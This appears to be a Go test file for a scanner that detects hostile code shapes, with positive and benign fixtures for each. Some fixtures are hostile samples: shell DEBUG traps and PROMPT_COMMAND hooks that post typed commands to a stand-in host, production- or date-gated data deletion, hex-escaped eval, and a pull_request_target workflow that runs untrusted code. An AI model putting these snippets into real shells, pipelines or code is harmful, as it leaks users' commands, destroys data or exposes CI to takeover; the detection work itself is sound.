package technique

import (
	"strings"
	"testing"
)

// TestBoundsDet20 counts the work on hostile input: the places of one
// kind tried stop at maxPlaces (the registered hook functions at twice
// that), a block reads at most maxBlock lines, and a 1 MiB line of
// each shape is read once.
func TestBoundsDet20(t *testing.T) {
	for _, c := range []struct {
		code, unit string
		max        int
	}{
		{"CI_PWN_REQUEST", "on: pull_request_target\n      ref: ${{ github.event.pull_request.head.sha }}\n", maxPlaces},
		{"SHELL_HOOK_EXFIL", "a_preexec() {\n}\n", 2 * maxPlaces},
		{"GATED_DESTRUCTION", "if prod; then\n  echo\nfi\n", maxPlaces},
		{"ESCAPED_API_NAME", "'\\x65\\x76\\x61\\x6c'\n", maxPlaces},
	} {
		_, n := find(c.code, []byte(strings.Repeat(c.unit, 1<<12)))
		if n > c.max {
			t.Errorf("%s: %d places tried, at most %d", c.code, n, c.max)
		}
	}
	deep := "if prod\n" + strings.Repeat("  x\n", 1<<16)
	if b := block([]byte(deep), 0); strings.Count(string(b), "\n") > maxBlock+1 {
		t.Errorf("a block read %d lines, at most %d", strings.Count(string(b), "\n"), maxBlock+1)
	}
	long := strings.Repeat("a", 1<<20)
	for _, code := range []string{"CI_PWN_REQUEST", "SHELL_HOOK_EXFIL", "GATED_DESTRUCTION", "ESCAPED_API_NAME"} {
		if got, _ := find(code, []byte("if prod preexec pull_request_target \\x"+long)); got != nil {
			t.Errorf("%s on a 1 MiB line: %v", code, got)
		}
	}
}

// TestFindDet20 pins each shape and its honest twin at the package's
// level (the audit's shape tests pin the findings).
func TestFindDet20(t *testing.T) {
	for _, c := range []struct {
		code, text string
		hit        bool
	}{
		{"GATED_DESTRUCTION", "if os.environ.get('ENV') == 'production':\n    cur.execute('DROP TABLE users')\n", true},
		{"GATED_DESTRUCTION", "if os.environ.get('ENV') == 'production':\n    sys.exit('refusing')\ncur.execute('DROP TABLE users')\n", false},
		{"GATED_DESTRUCTION", "if date.today() < datetime.date(2027, 3, 1):\n    return\nshutil.rmtree(Path.home() / 'src')\n", true},
		{"GATED_DESTRUCTION", "if [ \"$ENV\" = production ]; then\n  rm -rf build/\nfi\n", false},
		{"SHELL_HOOK_EXFIL", "trap 'curl -s -d \"$BASH_COMMAND\" https://x.example/c' DEBUG\n", true},
		{"SHELL_HOOK_EXFIL", "PROMPT_COMMAND='history -a'\n", false},
		{"SHELL_HOOK_EXFIL", "add-zsh-hook preexec lg\nlg() {\n  curl -s -d \"$1\" https://x.example/c\n}\n", true},
		{"CI_PWN_REQUEST", "on: pull_request_target\nsteps:\n  - uses: actions/checkout@v4\n    with:\n      ref: ${{ github.event.pull_request.head.sha }}\n  - uses: ./.github/actions/build\n", true},
		{"CI_PWN_REQUEST", "on: pull_request\nsteps:\n  - uses: actions/checkout@v4\n    with:\n      ref: ${{ github.event.pull_request.head.sha }}\n  - run: npm test\n", false},
		{"ESCAPED_API_NAME", "var t=['\\x65\\x76\\x61\\x6c'];\n// window[t[0]](s)\n", false},
		{"ESCAPED_API_NAME", "var t=['\\x65\\x76\\x61\\x6c'];\nwindow[t[0]](s)\n", true},
	} {
		if got, _ := find(c.code, []byte(c.text)); (got != nil) != c.hit {
			t.Errorf("%s %q: %v, want hit %v", c.code, c.text, got, c.hit)
		}
	}
}

// TestHookRegisteredDet20: a DEBUG trap or PROMPT_COMMAND naming a
// function is read through that function's body.
func TestHookRegisteredDet20(t *testing.T) {
	for _, c := range []struct {
		text string
		hit  bool
	}{
		{"t() {\n  wget -q --post-data \"c=$BASH_COMMAND\" https://x.example/f\n}\ntrap 't' DEBUG\n", true},
		{"p() {\n  curl -s -d \"$(history 1)\" https://x.example/h\n}\nPROMPT_COMMAND=p\n", true},
		{"t() {\n  printf '\\e]0;%s\\a' \"$BASH_COMMAND\"\n}\ntrap 't' DEBUG\n", false},
	} {
		if got, _ := find("SHELL_HOOK_EXFIL", []byte(c.text)); (got != nil) != c.hit {
			t.Errorf("%q: %v, want hit %v", c.text, got, c.hit)
		}
	}
}
